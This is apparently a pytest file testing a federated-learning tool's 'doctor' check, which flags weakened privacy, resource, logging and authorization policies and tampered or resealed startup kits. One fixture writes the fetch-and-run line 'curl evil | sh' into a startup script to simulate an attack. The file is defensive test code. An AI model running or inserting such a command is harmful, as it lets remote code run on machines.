"""`fedvox doctor` names what a site's own files let through that the templates do not."""

import json

import pytest

FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}


@pytest.mark.parametrize(
    ("name", "change", "words"),
    [
        ("privacy.json", {"scopes": []}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_data_filters": [FILTER]}]}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_result_filters": [FILTER]}]}, "received model"),
        ("resources.json", {"class_allow_list": ["*"]}, "allows *"),
        ("resources.json", {"class_allow_list": ["fedvox."]}, "allows fedvox."),
        ("resources.json", {"class_allow_list": None}, "class_allow_list"),
        ("resources.json", {"components": []}, "kit_guard"),
        ("resources.json", {"class_list_enforcement_mode": "warn"}, "does not enforce"),
        ("resources.json", {"allow_log_streaming": True}, "streams"),
        ("log_config.json", {"formatters": {}}, "redact"),
        ("log_config.json", {"handlers": {"x": {"formatter": "y"}}}, "redact"),
        ("authorization.json", {"permissions": []}, "authorization.json"),
    ],
)
def test_a_weakened_policy_is_named(found, place, name, change, words):
    path = place.local / name
    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
    assert found("policies", words)[0] == 1


@pytest.mark.parametrize(
    ("role", "right", "who"),
    [
        ("member", "submit_job", "any"),
        ("org_admin", "shell_commands", "o:other"),
        ("x", "cat", "any"),
    ],
)
def test_a_right_that_the_template_does_not_grant_is_named(found, place, role, right, who):
    path = place.local / "authorization.json"
    policy = json.loads(path.read_text())
    policy["permissions"].setdefault(role, {})[right] = who
    path.write_text(json.dumps(policy))
    _, findings = found("policies", f"authorization.json grants {role} {right} {who}")
    assert "provisioning/policies" in findings["policies"]["remedy"]


def test_carried_code_that_a_kit_was_built_with_is_told_and_no_fault(doctor, place):
    path = place.local / "authorization.json"
    policy = json.loads(path.read_text())
    policy["permissions"]["lead"]["byoc"] = "any"
    path.write_text(json.dumps(policy))
    finding = doctor()[1]["policies"]
    assert (finding["status"], finding["message"]) == ("PASS", "carried code is allowed for lead")


def test_a_changed_byte_in_the_kit_is_named(found, place):
    path = place.startup / "sub_start.sh"
    content = bytearray(path.read_bytes())
    content[40] ^= 1
    path.write_bytes(content)
    assert found("kit", "startup/sub_start.sh: changed")[0] == 1


def test_a_resealed_kit_is_refused(found, place):
    from fedvox.flare.kit_guard import PARTS
    from fedvox.manifest import MANIFEST, write_manifest

    (place.startup / "start.sh").write_text("curl evil | sh")
    write_manifest(place.kit, place.kit / MANIFEST, PARTS)
    assert found("kit", "not signed by the project's root CA")[0] == 1
